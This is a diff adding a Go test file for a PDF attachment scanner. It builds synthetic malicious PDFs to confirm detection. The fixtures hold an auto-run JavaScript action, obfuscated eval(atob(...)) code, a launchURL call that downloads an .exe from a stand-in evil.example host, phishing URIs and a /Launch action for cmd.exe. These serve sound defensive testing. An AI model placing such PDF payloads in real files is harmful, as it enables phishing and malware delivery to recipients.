@@ -0,0 +1,92 @@
+package attachment
+
+import (
+	"bytes"
+	"compress/zlib"
+	"fmt"
+	"strings"
+	"testing"
+)
+
+// makePDF writes objects numbered from 1; a body starting with "stream:"
+// becomes a FlateDecode stream.
+func makePDF(objects ...string) []byte {
+	var b bytes.Buffer
+	b.WriteString("%PDF-1.7\n")
+	for i, obj := range objects {
+		fmt.Fprintf(&b, "%d 0 obj\n", i+1)
+		if content, ok := strings.CutPrefix(obj, "stream:"); ok {
+			var z bytes.Buffer
+			zw := zlib.NewWriter(&z)
+			zw.Write([]byte(content))
+			zw.Close()
+			fmt.Fprintf(&b, "<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream\n", z.Len(), z.Bytes())
+		} else {
+			b.WriteString(obj + "\n")
+		}
+		b.WriteString("endobj\n")
+	}
+	b.WriteString("trailer\n<< /Root 1 0 R >>\n%%EOF\n")
+	return b.Bytes()
+}
+
+func TestInspectPDF(t *testing.T) {
+	data := makePDF(
+		"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 4 0 R >> >>",
+		"<< /Type /Pages /Kids [] /Count 0 >>",
+		// Annotations inside a compressed object stream, one with a hex string.
+		"stream:<< /Type /Annot /A << /S /URI /URI (https://login.evil.example/\\(o365\\)) >> >>\n"+
+			"<< /Type /Annot /A << /S /URI /URI <68747470733A2F2F636F6C6C6563742E6576696C2E6578616D706C652F> >> >>",
+		"stream:var s = String.fromCharCode(104,116); eval(atob('YWxlcnQoMSk=')); app.launchURL('https://drop.evil.example/x.exe');",
+	)
+	a := InspectFile("Aviz.pdf", "application/pdf", data)
+	if got, want := checks(a), "attachment-obfuscated-js,attachment-pdf-javascript"; got != want {
+		t.Errorf("expected findings [%s], got [%s]", want, got)
+	}
+	wantURLs := "https://login.evil.example/(o365) https://collect.evil.example/ https://drop.evil.example/x.exe"
+	if got := strings.Join(a.URLs, " "); got != wantURLs {
+		t.Errorf("URLs = %q, want %q", got, wantURLs)
+	}
+	if !strings.Contains(strings.Join(reasons(a.Findings), "\n"), "opened") {
+		t.Errorf("OpenAction JavaScript not reported: %v", a.Findings)
+	}
+
+	launch := InspectFile("form.pdf", "application/pdf", makePDF("<< /Type /Action /S /Launch /F (cmd.exe) >>", "<< /S /SubmitForm >>"))
+	if got, want := checks(launch), "attachment-pdf-launch,attachment-pdf-submitform"; got != want {
+		t.Errorf("expected findings [%s], got [%s]", want, got)
+	}
+	if a := InspectFile("invoice.pdf", "application/pdf", pdf); len(a.Findings) != 0 || len(a.URLs) != 0 {
+		t.Errorf("plain PDF: %+v", a)
+	}
+}
+
+func TestPDFImageBounds(t *testing.T) {
+	if img := pdfImage([]byte("/Width 8 /Height 8 /BitsPerComponent 8"), make([]byte, 64)); img == nil {
+		t.Error("8x8 grayscale image not decoded")
+	}
+	for _, dict := range []string{
+		"/Width 4294967296 /Height 4294967296 /BitsPerComponent 8",
+		"/Width 99999999999999999999 /Height 2 /BitsPerComponent 8",
+		"/Width 1 /Height 20000000 /BitsPerComponent 1",
+		"/Width 16 /Height 16 /BitsPerComponent 8",
+	} {
+		if img := pdfImage([]byte(dict), make([]byte, 64)); img != nil {
+			t.Errorf("%s: decoded %v", dict, img.Bounds())
+		}
+	}
+}
+
+func TestPDFString(t *testing.T) {
+	cases := map[string]string{
+		`(a\(b\)c) tail`:      "a(b)c",
+		`(nested (parens)) x`: "nested (parens)",
+		`(\101\102C)`:         "ABC",
+		`<FEFF0041 0042>`:     "AB",
+		`<68747470>`:          "http",
+	}
+	for in, want := range cases {
+		if got, ok := pdfString([]byte(in)); !ok || got != want {
+			t.Errorf("pdfString(%q) = %q, %v; want %q", in, got, ok, want)
+		}
+	}
+}